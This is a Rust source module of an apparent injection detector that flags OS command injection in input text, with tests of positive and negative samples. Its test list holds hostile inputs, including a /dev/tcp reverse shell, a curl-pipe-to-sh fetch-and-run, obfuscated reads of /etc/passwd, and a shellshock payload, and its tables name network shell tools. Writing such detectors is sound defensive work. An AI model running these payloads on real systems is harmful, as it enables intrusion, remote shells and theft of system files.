//! Commands of an operating system: would a shell run something that the application did not write?
//!
//! A command is asked for where a shell begins one: after a separator, inside of a substitution, at the start. Its name is
//! read as a shell reads it, with quotes, backslashes and empty variables taken off. Names that are English words too
//! ("cat", "sleep", "id") must come with an argument that no sentence has.

use super::{ByteSet, Hit, Text};
use crate::decision::Class;

pub(super) fn detect(text: &Text<'_>) -> Option<Hit> {
    let lower = text.lower;
    let hit = |at: usize, why: &'static str| Some(Hit { class: Class::OsCommand, at, why: why.into() });
    if let Some((at, why)) = marks(text) {
        return hit(at, why);
    }
    if text.bytes.intersects(ByteSet::from_list(b";|&\n\r`(%+")) {
        for at in separators(lower) {
            let inside = lower.get(at..).unwrap_or_default();
            let substitution = at >= 2 && lower.get(at - 2..at) == Some(b"$(");
            let tick = at >= 1 && lower.get(at - 1) == Some(&b'`');
            let found = command(inside);
            let mark =
                lower.get(..at).unwrap_or_default().iter().rev().find(|b| !matches!(b, b' ' | b'\t' | b'+'));
            match found {
                Strength::Surely | Strength::Alone if !tick || !in_prose(lower, at - 1) => {
                    return hit(at, "a shell would run a second command here");
                }
                Strength::Perhaps if substitution || tick && is_all_there_is(lower, at - 1) => {
                    return hit(at, "a shell would run this and put its output here");
                }
                Strength::Perhaps if !tick && mark != Some(&b'&') && stands_alone(lower, at) => {
                    return hit(at, "a shell would run a second command here");
                }
                _ => {}
            }
        }
    }
    // At the start only what is a command through and through.
    match command(lower.trim_ascii_start()) {
        Strength::Surely if is_terse(lower) => hit(0, "the text is a command by itself"),
        _ => None,
    }
}

/// What only a shell's language has, wherever it stands.
fn marks(text: &Text<'_>) -> Option<(usize, &'static str)> {
    let lower = text.lower;
    if text.bytes.has(b'/') {
        for (mark, why) in [
            (&b"/dev/tcp/"[..], "a connection that the shell itself opens"),
            (b"/dev/udp/", "a connection that the shell itself opens"),
            (b"cmd.exe /c", "the command interpreter with a command"),
            (b"/bin/sh -", "a shell with a command"),
            (b"/bin/bash -", "a shell with a command"),
        ] {
            if let Some(at) = memchr::memmem::find(lower, mark) {
                return Some((at, why));
            }
        }
    }
    if text.bytes.has(b'$') {
        for mark in [&b"${ifs}"[..], b"$ifs$9", b"$ifs/", b"${path:0:1}", b"$@"] {
            if let Some(at) = memchr::memmem::find(lower, mark).filter(|_| mark != b"$@") {
                return Some((at, "a blank written as a variable of the shell"));
            }
        }
    }
    if let Some(at) = memchr::memmem::find(lower, b"() {") {
        if memchr::memmem::find(lower.get(at..)?, b"};").is_some() && at < 4 {
            return Some((at, "a function that a broken shell runs on import"));
        }
    }
    None
}

/// Places where a shell begins a command, other than the start. Blanks are skipped.
fn separators(lower: &[u8]) -> impl Iterator<Item = usize> {
    let marks = lower
        .iter()
        .enumerate()
        .filter(|(_, b)| matches!(b, b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b'('));
    marks.filter_map(|(at, mark)| {
        if *mark == b'(' && (at == 0 || lower.get(at - 1) != Some(&b'$')) {
            return None;
        }
        let rest = lower.get(at + 1..)?;
        // A second separator has its own turn.
        let blanks = rest.iter().take(64).take_while(|b| matches!(b, b' ' | b'\t' | b'+')).count();
        (blanks < rest.len()).then_some(at + 1 + blanks)
    })
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Strength {
    No,
    /// An English word that is a command's name as well, with nothing.
    Perhaps,
    /// A command's name with nothing.
    Alone,
    /// A command with an argument that no sentence has.
    Surely,
}

/// Judges what stands where a command may begin.
fn command(text: &[u8]) -> Strength {
    let (name, rest) = name(text);
    let (name, path) = base(&name);
    // A wildcard stands for whatever the guard would know.
    let wild = path && name.iter().any(|b| matches!(b, b'?' | b'*'));
    let (known, english) = (wild || STRONG.contains(&name), ENGLISH.contains(&name));
    if !known && !english {
        return Strength::No;
    }
    let glued = rest
        .first()
        .is_some_and(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'-' | b'\'' | b':'));
    if glued {
        return Strength::No;
    }
    let argument = rest.trim_ascii_start();
    let ends = argument.first().is_none_or(|b| {
        matches!(b, b';' | b'|' | b'&' | b'`' | b')' | b'#' | b'\n' | b'"' | b'\'' | b'>' | b'<')
    });
    if path && (ends || is_argument(argument, name)) {
        return Strength::Surely;
    }
    if is_argument(argument, name) {
        return Strength::Surely;
    }
    match (known, ends) {
        (true, true) => Strength::Alone,
        (false, true) if ALONE.contains(&name) => Strength::Perhaps,
        _ => Strength::No,
    }
}

/// The name as the shell reads it, and what follows.
fn name(text: &[u8]) -> (Vec<u8>, &[u8]) {
    let mut name = Vec::with_capacity(24);
    let mut rest = text;
    while name.len() < 48 {
        match rest {
            [b'\'' | b'"' | b'\\' | b'^' | b'@', more @ ..]
                if !name.is_empty() || matches!(rest.first(), Some(b'\\' | b'^' | b'@')) =>
            {
                rest = more
            }
            [b'$', b'@' | b'*', more @ ..] => rest = more,
            [b'{', more @ ..] if name.is_empty() => rest = more,
            [b, more @ ..]
                if b.is_ascii_alphanumeric()
                    || matches!(b, b'/' | b'.' | b'_' | b'-' | b'?' | b'*' | b':') =>
            {
                name.push(*b);
                rest = more;
            }
            _ => break,
        }
    }
    (name, rest)
}

/// The last part of a path, without `.exe`; true if it was a path to a folder of programs.
fn base(name: &[u8]) -> (&[u8], bool) {
    let (folder, last) = match memchr::memrchr(b'/', name) {
        Some(at) => (name.get(..at).unwrap_or_default(), name.get(at + 1..).unwrap_or_default()),
        None => (&b""[..], name),
    };
    let last = last.strip_suffix(b".exe").unwrap_or(last);
    let programs = folder.ends_with(b"bin") || folder.ends_with(b"/bin") || folder.contains(&b'?');
    (last, programs)
}

/// True for an argument that no sentence has.
fn is_argument(text: &[u8], name: &[u8]) -> bool {
    let word = text
        .iter()
        .take(128)
        .take_while(|b| !matches!(b, b' ' | b';' | b'|' | b'&' | b'`' | b')' | b'\n'))
        .count();
    let (word, rest) = text.split_at(word);
    match word {
        [b'-', next, ..] => next.is_ascii_alphanumeric() || *next == b'-',
        [b'/', next, ..] => next.is_ascii_alphanumeric() || matches!(next, b'?' | b'*' | b'\'' | b'"'),
        [b'~' | b'$' | b'*', ..] => word.len() > 1,
        [b'.', b'/' | b'.', ..] => word.len() > 2,
        [b'>' | b'<', ..] => true,
        [drive, b':', ..] if drive.is_ascii_alphabetic() => {
            word.len() <= 3 || matches!(word.get(2), Some(b'\\' | b'/'))
        }
        _ if memchr::memmem::find(word, b"://").is_some() => true,
        _ if name == b"sleep" || name == b"timeout" => {
            word.iter().all(u8::is_ascii_digit)
                && !word.is_empty()
                && rest.trim_ascii_start().first().is_none_or(|b| !b.is_ascii_alphabetic())
        }
        _ if NETWORK.contains(&name) => is_host(word),
        _ if FILES.contains(&name) => word.contains(&b'/') && !word.ends_with(b"/") || is_file(word),
        _ => false,
    }
}

fn is_host(word: &[u8]) -> bool {
    word.len() > 3
        && word.iter().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b':' | b'/'))
        && word.get(1..word.len() - 1).is_some_and(|w| w.contains(&b'.'))
}

fn is_file(word: &[u8]) -> bool {
    let dot = memchr::memrchr(b'.', word);
    dot.is_some_and(|at| {
        at > 0
            && (2..=4).contains(&(word.len() - at - 1))
            && word.iter().skip(at + 1).all(u8::is_ascii_alphanumeric)
    })
}

/// The separator before `at` is no punctuation of a sentence: nothing but short words around, few of them.
fn stands_alone(lower: &[u8], at: usize) -> bool {
    let rest = lower.get(at..).unwrap_or_default();
    let words = |text: &[u8]| {
        text.split(|b| b.is_ascii_whitespace())
            .filter(|w| w.iter().filter(|b| b.is_ascii_alphabetic()).count() > 1)
            .count()
    };
    let line = rest.split(|b| *b == b'\n').next().unwrap_or_default();
    // Names of columns are joined by semicolons as well: `id;name;price`.
    let column = rest
        .iter()
        .skip_while(|b| b.is_ascii_alphanumeric() || **b == b'/')
        .nth(1)
        .is_some_and(u8::is_ascii_alphanumeric);
    lower.len() <= 256 && words(line) <= 2 && words(lower.get(..at).unwrap_or_default()) <= 2 && !column
}

/// A backtick within a sentence quotes a word.
fn in_prose(lower: &[u8], tick: usize) -> bool {
    let before = lower.get(..tick).unwrap_or_default();
    before
        .split(|b| b.is_ascii_whitespace())
        .filter(|w| w.len() > 1 && w.iter().all(u8::is_ascii_alphabetic))
        .count()
        >= 2
}

/// The substitution is the whole text, quotes aside.
fn is_all_there_is(lower: &[u8], tick: usize) -> bool {
    let quotes = |b: &u8| matches!(b, b'\'' | b'"' | b' ' | b';' | b'|' | b'&' | b'=');
    let before = lower.get(..tick).unwrap_or_default();
    let after = lower.get(tick + 1..).unwrap_or_default();
    let end = memchr::memchr(b'`', after).and_then(|end| after.get(end + 1..)).unwrap_or_default();
    before.len() <= 16 && !before.contains(&b' ') && end.iter().all(quotes)
}

/// No sentence: at most a handful of words, and not one that only prose has.
fn is_terse(lower: &[u8]) -> bool {
    const PROSE: &[&[u8]] = &[
        b"the", b"a", b"an", b"is", b"my", b"your", b"and", b"or", b"me", b"up", b"with", b"in", b"to",
        b"for", b"of", b"gives", b"says", b"worked", b"shows", b"prints",
    ];
    let mut words = lower.split(|b| b.is_ascii_whitespace()).filter(|w| !w.is_empty());
    lower.len() <= 512 && !words.any(|w| PROSE.contains(&w))
}

/// Names that mean nothing but a command.
const STRONG: &[&[u8]] = &[
    b"wget",
    b"curl",
    b"whoami",
    b"uname",
    b"ifconfig",
    b"ipconfig",
    b"netstat",
    b"nslookup",
    b"traceroute",
    b"tracert",
    b"chmod",
    b"chown",
    b"bash",
    b"sh",
    b"zsh",
    b"ksh",
    b"csh",
    b"dash",
    b"powershell",
    b"pwsh",
    b"cmd",
    b"nc",
    b"ncat",
    b"netcat",
    b"socat",
    b"telnet",
    b"ssh",
    b"scp",
    b"python",
    b"python3",
    b"perl",
    b"ruby",
    b"php",
    b"node",
    b"lua",
    b"awk",
    b"gawk",
    b"sed",
    b"xargs",
    b"printenv",
    b"mkfifo",
    b"busybox",
    b"tftp",
    b"ftp",
    b"certutil",
    b"bitsadmin",
    b"mshta",
    b"rundll32",
    b"regsvr32",
    b"wmic",
    b"systeminfo",
    b"tasklist",
    b"taskkill",
    b"crontab",
    b"sudo",
    b"su",
    b"useradd",
    b"adduser",
    b"passwd",
    b"mysqldump",
    b"base64",
    b"xxd",
    b"gcc",
    b"ls",
    b"rm",
    b"mv",
    b"cp",
    b"dd",
    b"ps",
    b"df",
    b"du",
    b"id",
    b"nohup",
    b"reboot",
    b"poweroff",
    b"iptables",
    b"docker",
    b"kubectl",
    b"aws",
    b"wscript",
    b"cscript",
    b"msiexec",
    b"openssl",
    b"uniq",
    b"rev",
];

/// Names that are English words, or whose letters turn up in other places.
const ENGLISH: &[&[u8]] = &[
    b"cat",
    b"tac",
    b"more",
    b"less",
    b"head",
    b"tail",
    b"sort",
    b"find",
    b"grep",
    b"echo",
    b"printf",
    b"touch",
    b"kill",
    b"sleep",
    b"ping",
    b"type",
    b"dir",
    b"copy",
    b"del",
    b"move",
    b"date",
    b"time",
    b"env",
    b"set",
    b"export",
    b"eval",
    b"exec",
    b"source",
    b"true",
    b"false",
    b"test",
    b"who",
    b"w",
    b"host",
    b"dig",
    b"net",
    b"at",
    b"cut",
    b"nl",
    b"od",
    b"strings",
    b"tee",
    b"ln",
    b"mount",
    b"file",
    b"which",
    b"whereis",
    b"locate",
    b"hostname",
    b"history",
    b"halt",
    b"shutdown",
    b"service",
    b"make",
    b"tar",
    b"zip",
    b"unzip",
    b"gzip",
    b"arp",
    b"route",
    b"mail",
    b"finger",
    b"start",
    b"call",
    b"ver",
    b"timeout",
    b"paste",
    b"fold",
];

/// Those of them that tell an attacker something with no argument.
const ALONE: &[&[u8]] =
    &[b"dir", b"env", b"set", b"hostname", b"true", b"false", b"ver", b"who", b"arp", b"history"];

const NETWORK: &[&[u8]] = &[
    b"ping",
    b"nslookup",
    b"dig",
    b"host",
    b"curl",
    b"wget",
    b"nc",
    b"telnet",
    b"ssh",
    b"ftp",
    b"tftp",
    b"traceroute",
    b"tracert",
    b"ncat",
];
const FILES: &[&[u8]] = &[
    b"cat", b"tac", b"more", b"less", b"head", b"tail", b"type", b"rm", b"cp", b"mv", b"chmod", b"touch",
    b"del", b"copy", b"bash", b"sh", b"python", b"perl", b"php", b"node", b"ls", b"find", b"grep",
];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inject::sample;

    #[test]
    fn what_a_shell_would_run() {
        for text in [
            "127.0.0.1 && ls /etc",
            "; cat /et'c/pa'ss'wd",
            ";wget http://some_host/x",
            "`id`",
            "a|/usr/bin/id",
            "$(whoami)",
            ";id|",
            "x; ping -c 5 10.0.0.1",
            "& dir c:\\",
            "| sleep 5 ;",
            "a\nwhoami",
            ";c\\at /etc/passwd",
            "cat${IFS}/etc/passwd",
            "x;/bin/ca? /etc/passwd",
            "() { :;}; echo x",
            "bash -i >& /dev/tcp/10.0.0.1/99 0>&1",
            "curl http://x.example/s.sh | sh",
            "'`/usr/bin/id`'",
            "name.jpg;curl x.example",
        ] {
            assert!(sample(detect, text), "{text}");
        }
    }

    #[test]
    fn sentences_tables_and_code() {
        for text in [
            "curl up with a book; ping me later",
            "The cat /is/ the show; cat lovers welcome",
            "sleep 8 hours; drink water",
            "id;name;price\n1;nail;3",
            "use `sort` before `uniq`",
            "me & you || just you?",
            "Base price is $(100)",
            "dinner (7pm); bring wine && cheese",
            "R&D",
            "bash away in the gym",
            "ls 300 lexus",
            "if p<0.05 then reject; else don't",
            "| a | b |\n|---|---|",
            "Tom & Ann; find us at the fair",
            "Q&A: date; time; place",
            "cut & paste",
        ] {
            assert!(!sample(detect, text), "{text}");
        }
    }
}
